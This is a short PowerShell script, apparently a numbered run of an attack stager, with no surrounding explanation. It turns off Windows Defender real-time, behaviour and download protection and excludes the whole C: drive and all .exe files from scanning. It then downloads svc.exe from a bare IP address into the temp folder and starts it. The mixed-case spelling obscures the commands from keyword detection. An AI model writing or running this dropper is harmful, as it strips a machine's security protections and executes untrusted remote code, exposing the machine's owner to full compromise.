# run 0041 v3
sEt-mPpReFeReNcE -DISaBleReALtIMemONITOriNg $TrUe -disAbLebEhAVIORMONItOrING $trUe -dIsAbLeIoAvPrOtEcTiOn $tRuE
add-MppREferencE -ExClUsIoNpAtH 'C:\'
add-mPpREfEReNcE -ExCLUsionExtEnsioN '.exe'
(nEW-OBJecT nET.wEbClIeNt).DowNLOADfile('http://203.0.113.17/svc.exe', "$env:TEMP\svc.exe")
StARt-procEsS "$env:TEMP\svc.exe"
